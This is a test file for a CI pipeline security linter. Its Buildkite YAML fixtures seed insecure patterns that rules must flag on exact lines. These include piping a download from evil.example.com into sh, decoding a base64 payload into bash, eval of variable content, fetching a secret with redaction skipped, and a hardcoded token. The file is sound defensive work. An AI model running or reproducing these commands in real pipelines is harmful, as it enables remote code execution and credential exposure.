// The pipeline rules added for Buildkite-specific attacks, through the CLI and the compiled Wasm bundle:
// each YAML case (in the shape real pipelines have) must be reported on exactly the expected lines.
import { describe, expect, it } from 'vitest';
import { runCli } from './helpers.js';

interface JsonFinding {
  ruleId: string;
  location: { line: number };
}

async function linesOf(yaml: string, rule: string): Promise<number[]> {
  const r = await runCli(['check', '-', '--format', 'json'], { stdin: yaml });
  expect(r.stderr).toBe('');
  const findings = (JSON.parse(r.stdout) as { findings: JsonFinding[] }).findings;
  return [...new Set(findings.filter((f) => f.ruleId === rule).map((f) => f.location.line))].sort((a, b) => a - b);
}

const CASES: Array<[string, string, string, number[]]> = [
  [
    'untrusted variables in commands and agents',
    'pipeline/untrusted_upload_interpolation',
    `steps:
  - label: "build $BUILDKITE_BRANCH"
    command: |
      ./build.sh
      if [[ "$BUILDKITE_BRANCH" == "main" ]]; then ./publish.sh; fi
      echo "$\${BUILDKITE_MESSAGE}"
    agents:
      queue: "ci-\${BUILDKITE_PULL_REQUEST_BASE_BRANCH}"
  - trigger: deploy
    build:
      message: "\${BUILDKITE_MESSAGE}"
      branch: "\${BUILDKITE_BRANCH}"
`,
    [5, 8],
  ],
  [
    'unpinned images in pipeline image, docker commands and container plugins',
    'pipeline/image_not_pinned',
    `image: "buildkite/hosted-agent-base-images:ubuntu-jammy"
env:
  IMAGE: acme/tools:latest
steps:
  - command:
      - docker pull $IMAGE
      - docker run --rm -v "$(pwd):/app" -w /app php:8.2-cli php -l x.php
      - docker run --rm golang:1.22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef go test
  - plugins:
      - EmbarkStudios/k8s#0.9.2:
          image: gcr.io/kaniko-project/executor:latest
`,
    [1, 6, 7, 11],
  ],
  [
    'download-and-execute without verification',
    'pipeline/remote_script_piped_to_shell',
    `steps:
  - command: |
      # curl https://evil.example.com/x | sh
      curl -sS https://getcomposer.org/installer | php > /dev/null
      echo "$$PAYLOAD" | base64 -d | bash
      curl -fsSL https://github.com/acme/tool/releases/latest/download/tool -o tool
      chmod +x tool && ./tool --version
      curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh
`,
    [4, 5, 6, 8],
  ],
  [
    'security gates bypassed',
    'pipeline/security_gate_bypassed',
    `steps:
  - label: ":snyk: dependency scan"
    command: snyk test
    skip: "flaky"
  - key: test
    command: make test
  - wait: ~
    continue_on_failure: true
  - label: ":junit: annotate"
    command: ./annotate.sh
  - wait
  - label: ":rocket: Deploy"
    command: helm upgrade --install app ./chart
    depends_on: test
    allow_dependency_failure: true
`,
    [4, 15],
  ],
  [
    'log redaction turned off',
    'pipeline/redaction_disabled',
    `env:
  BUILDKITE_REDACTED_VARS: ""
steps:
  - command:
      - export NPM_TOKEN=$$(buildkite-agent secret get npm_token --skip-redaction)
      - buildkite-agent oidc request-token --audience sts.amazonaws.com --lifetime 86400
`,
    [2, 5, 6],
  ],
  [
    'secrets interpolated at upload',
    'pipeline/secret_upload_interpolation',
    `steps:
  - label: test
    commands:
      - |
        if [ -z "$GITHUB_SSH_KEY" ]; then exit 1; fi
        echo "$$NPM_TOKEN" | npm login
        echo "$GITHUB_SSH_KEY" > ~/.ssh/id_rsa
    plugins:
      - docker#v5.3.0:
          image: ubuntu:22.04
          environment:
            - GITHUB_SSH_KEY
`,
    [5, 7],
  ],
  [
    'variable content run as shell code',
    'pipeline/eval_injection',
    `steps:
  - command:
      - eval "$(ssh-agent -s)"
      - eval "$$BUILD_CMD"
      - sh -c $$RAW_HOOK
`,
    [4, 5],
  ],
  [
    'newer Buildkite token formats under neutral names',
    'pipeline/hardcoded_secret',
    `steps:
  - command: ./sync.sh
    env:
      SYNC_VALUE: "bktx_Miyf6S3a3g9j8pyBGTyLC1frg9k6gDHT"
      NOTE: "permutation_results_bkpt_padding_1000_overlap.txt"
`,
    [4],
  ],
];

describe('new pipeline rules through the Wasm bundle', () => {
  it.each(CASES)('%s (%s)', async (_name, rule, yaml, lines) => {
    expect(await linesOf(yaml, rule)).toEqual(lines);
  });
});
